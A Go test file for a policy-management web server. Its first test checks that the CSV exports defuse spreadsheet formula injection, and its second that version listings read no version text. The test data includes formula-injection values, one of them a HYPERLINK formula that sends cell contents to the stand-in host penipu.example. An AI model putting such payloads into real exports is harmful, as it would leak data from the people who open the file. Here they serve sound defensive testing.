package server_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/policyflow/policyflow/internal/devtest"
	"github.com/policyflow/policyflow/internal/devtest/web"
	"github.com/policyflow/policyflow/policies"
	"github.com/policyflow/policyflow/postgres"
	"github.com/policyflow/policyflow/server"
)

// dbApp is a test server on PostgreSQL alone, for pages that start no
// workflow; store is the seeded database, or a wrapper of it.
func dbApp(t *testing.T, store server.Store) *app {
	t.Helper()
	srv := web.Serve(t, server.Deps{Store: store, TrustedProxies: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}})
	return &app{t: t, srv: srv, tokens: map[string]string{}, people: map[string]*http.Client{}}
}

// drafterAndDraft are the seeded Sawahlunto drafter and their draft.
func drafterAndDraft(t *testing.T, db *postgres.DB) (policies.User, int64) {
	t.Helper()
	drafter, err := db.UserByEmail(t.Context(), roleEmails["drafter"])
	if err != nil {
		t.Fatal(err)
	}
	var policyID int64
	if err := db.SQL().Get(&policyID, `SELECT id FROM policies WHERE slug = 'sawahlunto-peningkatan-kompetensi-asn'`); err != nil {
		t.Fatal(err)
	}
	return drafter, policyID
}

// Participants and units named like spreadsheet formulas come out of the
// CSV exports (ledger.csv, evaluations.csv) as text: the cell starts with
// an apostrophe, the rest unchanged; numeric columns stay numbers.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	db := devtest.Seeded(t)
	a := dbApp(t, db)
	ctx := t.Context()
	drafter, policyID := drafterAndDraft(t, db)
	const year = 2025
	end := time.Date(year, 6, 2, 0, 0, 0, 0, time.UTC)
	prog, err := db.CreateProgramOnce(ctx, policies.Program{PolicyID: policyID, UnitID: *drafter.UnitID, Kind: policies.KindWorkshop,
		Title: "Uji CSV", StartsOn: end.AddDate(0, 0, -1), EndsOn: end, JP: 16, TargetParticipants: 10}, drafter.ID, "uji-csv", "uji-csv-wf")
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{ // name → the cell a spreadsheet must get
		`=HYPERLINK("https://penipu.example/?d="&A1,"Klik")`: `'=HYPERLINK("https://penipu.example/?d="&A1,"Klik")`,
		"@SUM(1)":      "'@SUM(1)",
		"\tX":          "'\tX",
		"\rY":          "'\rY",
		"+62 812 555":  "'+62 812 555",
		"-1+1":         "'-1+1",
		"Budi Santoso": "Budi Santoso",
	}
	var ps []policies.Participant
	byNIP := map[string]string{}
	for name := range names {
		nip := fmt.Sprintf("1985031220100110%02d", len(ps))
		ps = append(ps, policies.Participant{NIP: nip, Name: name, UnitID: *drafter.UnitID, Attended: true, Completed: true})
		byNIP[nip] = name
	}
	if _, err := db.SaveParticipants(ctx, prog.ID, drafter.ID, ps); err != nil {
		t.Fatal(err)
	}

	res, body := a.get(a.login(roleEmails["drafter"]), fmt.Sprintf("/ledger.csv?region=sawahlunto&year=%d", year))
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("ledger.csv: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("ledger.csv does not parse: %v\n%q", err, body)
	}
	seen := 0
	for _, rec := range records[1:] {
		name, ok := byNIP[rec[0]]
		if !ok {
			continue
		}
		seen++
		if rec[1] != names[name] {
			t.Errorf("participant %q: name cell %q, want %q", name, rec[1], names[name])
		}
		if rec[4] != "16" { // nip, nama, jenis_asn, unit, jp
			t.Errorf("participant %q: jp cell %q, want 16", name, rec[4])
		}
	}
	if seen != len(names) {
		t.Errorf("ledger.csv lists %d of the %d participants:\n%q", seen, len(names), body)
	}

	// evaluations.csv: units named with a leading TAB, CR or @, each with a round.
	var region int64
	db.SQL().Get(&region, `SELECT region_id FROM policies WHERE id = $1`, policyID)
	units := map[string]string{"\tDinas Tab": "'\tDinas Tab", "\rDinas CR": "'\rDinas CR", "@Dinas": "'@Dinas"}
	var unitIDs []int64
	for name := range units {
		var id int64
		if err := db.SQL().Get(&id, `INSERT INTO units (region_id, code, name) VALUES ($1, $2, $3) RETURNING id`,
			region, fmt.Sprintf("uji-csv-%d", len(unitIDs)), name); err != nil {
			t.Fatal(err)
		}
		unitIDs = append(unitIDs, id)
	}
	if _, err := db.CreateRounds(ctx, policyID, 1, end, unitIDs); err != nil {
		t.Fatal(err)
	}
	res, body = a.get(a.login(roleEmails["drafter"]), fmt.Sprintf("/policies/%d/evaluations.csv", policyID))
	if records, err = csv.NewReader(strings.NewReader(body)).ReadAll(); res.StatusCode != 200 || err != nil {
		t.Fatalf("evaluations.csv: %d %v\n%q", res.StatusCode, err, body)
	}
	seen = 0
	for _, rec := range records[1:] {
		for name, want := range units {
			if strings.TrimPrefix(rec[1], "'") == name {
				seen++
				if rec[1] != want || rec[0] != "1" {
					t.Errorf("unit %q: row %q, want round 1 and unit cell %q", name, rec, want)
				}
			}
		}
	}
	if seen != len(units) {
		t.Errorf("evaluations.csv lists %d of the %d units:\n%q", seen, len(units), body)
	}
}

// textCounter is the real store, counting the bytes of version text it hands out.
type textCounter struct {
	server.Store
	bytes atomic.Int64
}

func (c *textCounter) Versions(ctx context.Context, policyID int64) ([]policies.Version, error) {
	vs, err := c.Store.Versions(ctx, policyID)
	for _, v := range vs {
		c.bytes.Add(int64(len(v.Markdown)))
	}
	return vs, err
}

func (c *textCounter) VersionByNumber(ctx context.Context, policyID int64, n int) (policies.Version, error) {
	v, err := c.Store.VersionByNumber(ctx, policyID, n)
	c.bytes.Add(int64(len(v.Markdown)))
	return v, err
}

func (c *textCounter) CurrentVersion(ctx context.Context, policyID int64) (policies.Version, error) {
	v, err := c.Store.CurrentVersion(ctx, policyID)
	c.bytes.Add(int64(len(v.Markdown)))
	return v, err
}

// A policy with many large versions: the version lists (page and API) read
// none of their text, and a diff reads the text of the two versions it
// compares only.
func TestVersionListsReadNoText(t *testing.T) {
	db := devtest.Seeded(t)
	store := &textCounter{Store: db}
	a := dbApp(t, store)
	ctx := t.Context()
	drafter, policyID := drafterAndDraft(t, db)
	cur, err := db.CurrentVersion(ctx, policyID)
	if err != nil {
		t.Fatal(err)
	}
	const versions, size = 30, 200_000
	for i := range versions {
		md := fmt.Sprintf("# Kebijakan versi %d\n\n%s\n", cur.Number+1, strings.Repeat(fmt.Sprintf("Kalimat %d tentang kompetensi ASN. ", i), size/40))
		if cur, err = db.CreateVersion(ctx, policyID, cur.Number, md, drafter.ID, fmt.Sprintf("Perubahan %d", i)); err != nil {
			t.Fatal(err)
		}
	}
	listed, err := db.Versions(ctx, policyID)
	if err != nil {
		t.Fatal(err)
	}
	if len(listed) != cur.Number {
		t.Fatalf("listed %d versions, want %d", len(listed), cur.Number)
	}
	for _, v := range listed {
		if v.Markdown != "" || v.SHA256 == "" || v.ChangeSummary == "" {
			t.Fatalf("version %d in the list: %d bytes of text, hash %q, summary %q; want no text, a hash and a summary",
				v.Number, len(v.Markdown), v.SHA256, v.ChangeSummary)
		}
	}

	c := a.login(roleEmails["drafter"])
	token := a.token(roleEmails["drafter"])
	base := fmt.Sprintf("/api/v1/policies/%d", policyID)
	for _, tc := range []struct {
		name    string
		get     func() (*http.Response, string)
		maxText int64 // bytes of version text the request may read
	}{
		{"versions page", func() (*http.Response, string) { return a.get(c, fmt.Sprintf("/policies/%d/versions", policyID)) }, 0},
		{"versions API", func() (*http.Response, string) {
			return a.api(http.DefaultClient, token, "GET", base+"/versions", nil, "")
		}, 0},
		{"diff page", func() (*http.Response, string) {
			return a.get(c, fmt.Sprintf("/policies/%d/diff?from=3&to=20", policyID))
		}, 2 * size * 11 / 10},
		{"diff API", func() (*http.Response, string) {
			return a.api(http.DefaultClient, token, "GET", base+"/diff?from=3&to=20", nil, "")
		}, 2 * size * 11 / 10},
	} {
		t.Run(tc.name, func(t *testing.T) {
			store.bytes.Store(0)
			res, body := tc.get()
			if res.StatusCode != 200 {
				t.Fatalf("%d %.300s", res.StatusCode, body)
			}
			if got := store.bytes.Load(); got > tc.maxText {
				t.Errorf("read %d bytes of version text, want at most %d (%d versions of %d KB each)", got, tc.maxText, versions, size/1000)
			}
			if tc.maxText == 0 && len(body) > size {
				t.Errorf("a list of %d bytes carries version text", len(body))
			}
		})
	}
}
